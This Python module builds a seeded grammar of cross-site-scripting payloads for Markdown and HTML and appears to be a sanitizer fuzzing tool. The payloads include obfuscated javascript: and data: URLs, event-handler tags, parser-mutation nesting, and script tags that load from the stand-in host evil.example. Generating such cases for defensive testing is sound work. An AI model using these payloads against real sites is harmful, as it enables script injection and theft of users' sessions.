"""A grammar of attacks on Markdown and HTML: what may run, load, or break out.

Each text is made from few parts, by a seed: the same texts every time, and others with
another seed. `alert(n)` says which one ran, and any other host is `evil.example`.
"""

import random
from collections.abc import Callable, Iterator

RUN = "alert({n})"
HOST = "//evil.example/{n}"

SCHEMES = (
    "javascript:", "JaVaScript:", "vbscript:", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==,", "feed:javascript:",
    "blob:", "view-source:javascript:", "jar:javascript:", "file:///",
)  # fmt: skip
# What stands within a scheme, or before it, that a browser may skip or decode.
NOISE = (
    "", "&#9;", "&#10;", "&Tab;", "&NewLine;", "&#x0;", "\t", "\n", "\r\n", "\x01",
    "\x00", "\ufeff", "\u200b", "&#65279;", "&zwnj;", "%09", "\\", "/**/", "&#x20;",
    "&nbsp;", "\u2028",
)  # fmt: skip
LETTERS = (
    str, lambda c: f"&#{ord(c)};", lambda c: f"&#x{ord(c):X}",
    lambda c: f"&#{ord(c):07};", lambda c: f"%{ord(c):02x}", lambda c: f"\\{c}",
    lambda c: f"\\u{ord(c):04x}", lambda c: chr(ord(c) + 0xFEE0),
)  # fmt: skip
HANDLERS = (
    "onerror", "ONERROR", "onload", "onfocus", "ontoggle", "onmouseover",
    "onanimationstart", "onbeforetoggle", "onpointerrawupdate", "onscroll",
)  # fmt: skip
# How an attribute may be joined to what stands before it, and to its value.
JOINTS = (
    *[" "] * 10, "/", "\n", "\t", "\f", "\x0b", "\x00", "\u00a0", "//", "'", '"', "`",
    "=", " x=", ' x="', " x='>' ",
)  # fmt: skip
EQUALS = (*["="] * 8, " = ", "\n=\n", "=\x00", "&equals;", "\uff1d")
QUOTES = ('"', "'", "", "`", "&quot;", "\u201c")
CARRIERS = (
    "img src=x", "svg", "body", "input autofocus", "video", "details open", "p",
    "iframe", "image src=x", "x-a", "math", "a href=x", "object", "marquee", "style",
    "audio src=x", "select autofocus", "\u0131mg src=x", "svg/animate", "embed src=x",
)  # fmt: skip
# What changes how a parser reads what follows.
CONTEXTS = (
    "svg", "math", "math><mtext", "math><mi", "math><annotation-xml encoding=text/html",
    "svg><foreignObject", "svg><desc", "svg><title", "svg><style", "math><mglyph",
    "math><malignmark", "style", "noscript", "template", "select", "option", "table",
    "table><caption", "table><tr><td", "form", "button", "textarea", "title", "xmp",
    "noembed", "noframes", "iframe", "plaintext", "script", "frameset", "colgroup",
    "a href=/x", "p", "li", "details", "object", "head", "body", "html", "ruby><rtc",
    "nobr", "h2", "pre", "listing", "b", "dl><dt", "search", "dialog open",
)  # fmt: skip
COMMENTS = (
    "<!--", "<!-->", "<!--->", "-->", "--!>", "<!", "<?", "?>", "]]>", "<![CDATA[",
    "<!DOCTYPE x [", "</ ", "</>", "<!--[if IE]>", "<![endif]-->", "<%", "%>", "<//",
)  # fmt: skip
SCRIPTS = (
    "script", "SCRIPT", "scr<script>ipt", "script/x", "svg><script", "\u017fcript",
    "script\x00", "script\n", "script x=>", "x:script xmlns:x='a'",
)  # fmt: skip
NAMES = (
    "document", "forms", "__proto__", "constructor", "body", "cookie", "location",
    "top", "getElementById", "toString", "defaultView", "attributes", "children",
    "innerHTML", "parentNode", "nodeName", "head", "scripts", "images", "self", "name",
)  # fmt: skip
ATTRIBUTES = (
    "srcset='{host} 1x'", "formaction='{url}'", "action='{url}'", "href='{url}'",
    "xlink:href='{url}'", "src='{url}'", "srcdoc='<script>{run}</script>'",
    "style='background:url({host})'", "background='{host}'", "poster='{host}'",
    "ping='{host}'", "data='{url}'", "http-equiv=refresh content='0;url={url}'",
    "code='{url}'", "lowsrc='{host}'", "dynsrc='{host}'", "manifest='{host}'",
    "data-embed='{url}'", "data-embed='https://player.vimeo.com/video/12345?a={host}'",
    "is=x", "slot=x", "target=_blank rel=opener href='{host}'", "name='{name}'",
    "id='{name}'", "class='ad-label paid-tag'", "form='{name}'", "for='{name}'",
    "popover id='{name}'", "popovertarget='{name}'", "contenteditable accesskey=x",
    "tabindex=-1 autofocus", "imagesizes=1 imagesrcset='{host} 1x'",
)  # fmt: skip
# Where Markdown of ours puts words, and what could break out of it.
FRAMES = (
    "{x}", "> {x}", "- {x}", "1. a\n\n    {x}", "## {x}", "#### {x}", "**{x}**",
    "`{x}`", "``` {x}\n{x}\n```", "    {x}", "[{x}](/a)", "[a]({x})", "[a](<{x}>)",
    '[a](/a "{x}")', "[a](/a '{x}')", "[a](/a ({x}))", "![{x}](/media/a.png)",
    "![a]({x})", "<{x}>", '![a](/media/a.png "{x}")', "[a][b]\n\n[b]: {x}",
    '[a][b]\n\n[b]: /a "{x}"', "[{x}]{{fr}}", "[a]{{{x}}}", "[a]{{fr {x}}}",
    "a[^{x}]\n\n[^{x}]: b", "a[^a]\n\n[^a]: {x}", "| {x} | b |\n|---|---|\n| c | {x} |",
    "|a|\n|-{x}-|\n|c|", "# {x} {{: {x} }}",
    "/// figure | {x}\n![a](/media/a.png)\n\n{x}\n///", "/// note | {x}\n{x}\n///",
    "/// content-note | {x}\n{x}\n///", "/// pull\n{x}\n///", "/// ad-break\n{x}\n///",
    "/// video | {x}\n    title: {x}\n\n{x}\n///", "/// {x}\n{x}\n///",
    "/// video | https://youtu.be/abcdefgh{x}\n    title: a\n\nb\n///",
    "/// video | https://vimeo.com/123456\n    title: {x}\n    note: {x}\n\n{x}\n///",
    "/// video | https://vimeo.com/123456\n    poster: {x}\n\n{x}\n///",
    "https://a.example/{x}", "www.a.example/{x}", "<https://a.example/{x}>",
    "mailto:{x}", "a\n\n{x}\n\nb", "<div>\n\n{x}\n\n</div>", '<p title="{x}">a</p>',
    "<p title='{x}'>a</p>", "<b>{x}", "<h2 id='{x}'>a</h2>", "<a href='{x}'>a</a>",
    '<a href="{x}">a</a>', "<img alt='{x}' src='/media/a.png'>", "\x02{x}\x03",
    "\x02wzxhzdk:{x}\x03", "&lt;{x}&gt;", "&amp;lt;{x}", "<!-- {x} -->",
    "<![CDATA[{x}]]>", "+ADw-{x}+AD4-", "\ufeff{x}", "\ufffe{x}",
)  # fmt: skip


def make_url(dice: random.Random, number: int) -> str:
    """Return an address that runs something, in one of its disguises."""
    scheme = dice.choice(SCHEMES)
    place = dice.randrange(len(scheme)) if dice.random() < 0.7 else 0
    written = dice.choice(LETTERS)(scheme[place])
    url = scheme[:place] + dice.choice(NOISE) + written + scheme[place + 1 :]
    return dice.choice(NOISE) + url + RUN.format(n=number)


def make_handler(dice: random.Random, number: int) -> str:
    """Return a tag with an event handler, joined in one of many ways."""
    quote = dice.choice(QUOTES)
    return (
        f"<{dice.choice(CARRIERS)}{dice.choice(JOINTS)}{dice.choice(HANDLERS)}"
        f"{dice.choice(EQUALS)}{quote}{RUN.format(n=number)}{quote}"
        f"{dice.choice(['>', '/>', ' ', ''])}"
    )


def make_attribute(dice: random.Random, number: int) -> str:
    """Return a tag with an attribute that loads, sends, opens or names something."""
    written = dice.choice(ATTRIBUTES).format(
        host=HOST.format(n=number),
        run=RUN.format(n=number),
        url=make_url(dice, number),
        name=dice.choice(NAMES),
    )
    tag = dice.choice(
        [*CARRIERS, "form", "button", "input", "a", "source", "picture", "h2"]
    )
    return f"<{tag}{dice.choice(' /')}{written}>x</{tag.split(' ')[0]}>"


def make_mutation(dice: random.Random, number: int) -> str:
    """Return nested contexts that a parser reads otherwise the second time."""
    tags = [dice.choice(CONTEXTS) for _ in range(dice.randint(1, 4))]
    inside = dice.choice([make_handler, make_attribute, make_script])(dice, number)
    kind = dice.randrange(3)
    if kind == 0:  # the end of a context, hidden in a value
        inside = f"<a title='</{tags[-1].split('>')[-1].split(' ')[0]}>{inside}'>"
    elif kind == 1:
        inside = f"{dice.choice(COMMENTS)}{inside}{dice.choice(COMMENTS)}"
    elif kind == 2:
        name = dice.choice(tags).split(">")[-1].split(" ")[0]
        inside = f"</{name}>{inside}</{name}>"
    return "".join(f"<{tag}>" for tag in tags) + inside


def make_script(dice: random.Random, number: int) -> str:
    """Return a script element, its name written in one of many ways."""
    name = dice.choice(SCRIPTS)
    source = dice.choice([f" src={HOST.format(n=number)}", "", ""])
    begin = dice.choice(["<", "<", "&lt;", "\uff1c"])
    return f"{begin}{name}{source}>{RUN.format(n=number)}</script>"


MAKERS: tuple[Callable[[random.Random, int], str], ...] = (
    make_url, make_handler, make_attribute, make_mutation, make_mutation, make_script,
)  # fmt: skip


def make_attacks(seed: int, count: int) -> Iterator[str]:
    """Yield hostile texts of the grammar.

    Args:
        seed: Which ones.
        count: How many.
    """
    for number in range(count):
        dice = random.Random(f"{seed}/{number}")  # noqa: S311 - the same each time
        attack = dice.choice(MAKERS)(dice, number)
        if dice.random() < 0.2:
            attack = dice.choice(COMMENTS) + attack
        frame = dice.choice(FRAMES) if dice.random() < 0.8 else "{x}"
        yield frame.format(x=attack)
